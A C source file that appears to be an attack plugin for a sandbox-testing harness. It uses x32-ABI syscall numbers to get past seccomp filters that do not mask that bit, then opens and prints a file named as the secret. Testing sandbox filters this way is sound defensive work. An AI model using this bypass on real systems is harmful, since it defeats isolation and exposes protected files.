/*
 * sys_x32_openat — calls openat and read with their x32 numbers (the x86_64
 * number with bit 0x40000000 set), through the raw `syscall` instruction. A
 * seccomp filter that compares numbers without masking or refusing the x32 bit
 * lets these through as unknown numbers; on kernels with x32 support they open
 * files. (Kernels without x32 answer ENOSYS.)
 */
#include "attack.h"

#define X32_SYSCALL_BIT 0x40000000L
enum { NR_READ = 0, NR_CLOSE = 3, NR_GETPID = 39, NR_OPENAT = 257 };

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static char buf[4096];
    char secret[4096];
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    long pid = atk_syscall6(X32_SYSCALL_BIT | NR_GETPID, 0, 0, 0, 0, 0, 0);
    if (pid < 0) {
        atk_failed(out, "x32 getpid", (int)-pid);
    } else {
        atk_gained(out, "the x32 ABI answers (getpid %ld)", pid);
    }
    long fd = atk_syscall6(X32_SYSCALL_BIT | NR_OPENAT, AT_FDCWD, (long)(uintptr_t)secret,
                           O_RDONLY, 0, 0, 0);
    if (fd < 0) {
        atk_failed(out, "x32 openat", (int)-fd);
        return SBX_ERR_INTERNAL;
    }
    long got = atk_syscall6(X32_SYSCALL_BIT | NR_READ, fd, (long)(uintptr_t)buf, sizeof buf, 0, 0,
                            0);
    atk_syscall6(X32_SYSCALL_BIT | NR_CLOSE, fd, 0, 0, 0, 0, 0);
    if (got > 0) {
        atk_put(out, "secret via x32 openat: ", 23);
        atk_put(out, buf, (size_t)got);
        atk_put(out, "\n", 1);
        return SBX_OK;
    }
    atk_failed(out, "x32 read", (int)-got);
    return SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
